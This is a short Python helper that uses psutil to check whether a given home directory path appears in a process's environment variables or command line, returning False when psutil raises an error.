def _of(process: psutil.Process, home: Path) -> bool:
    try:
        return str(home) in " ".join([*process.environ().values(), *process.cmdline()])
    except psutil.Error:
        return False
